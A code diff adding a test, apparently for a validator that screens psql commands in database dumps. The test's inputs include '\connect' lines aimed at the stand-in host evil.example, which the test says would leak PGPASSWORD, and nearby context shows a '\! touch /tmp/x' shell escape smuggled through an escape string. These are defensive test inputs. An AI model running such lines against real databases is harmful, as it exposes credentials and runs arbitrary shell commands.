@@ -110,6 +110,25 @@ describe('psql commands in a dump', () => {
     expect((await verdict('postgres', on)).error).toMatch(/command \\! at line 3,/)
   })
 
+  it('takes \\connect only as pg_dump writes it: no host, port or other option (they would get PGPASSWORD)', async () => {
+    const elsewhere = [
+      '\\connect -reuse-previous=on "dbname=x host=127.0.0.1 port=54329"\n',
+      '\\c x root evil.example\n',
+      '\\connect postgresql://evil.example/x\n',
+      '\\connect "host=evil.example dbname=x"\n',
+      '\\connect -reuse-previous=on "dbname=\'x\' host=evil.example"\n',
+    ]
+    for (const line of elsewhere)
+      expect((await verdict('postgres', `SELECT 1;\n${line}`)).error, line).toMatch(/command \\c(onnect)? to a server/)
+    const pgDump = [
+      '\\connect postgres\n',
+      '\\connect "My.db"\r\n',
+      '\\connect -reuse-previous=on "dbname=\'rv we""ir\\\\d\\\'x`id` host=y\'"\n',
+      '\\connect - root\n',
+    ]
+    for (const line of pgDump) expect((await verdict('postgres', `SELECT 1;\n${line}`)).error, line).toBeUndefined()
+  })
+
   it("keeps an E'…' string an escape string past a doubled quote", async () => {
     // psql reads one string `a'b' ; ` here, then runs the \! line
     const doubled = "SELECT E'a''b\\' ; ' AS x;\n\\! touch /tmp/x #'\n;\n"
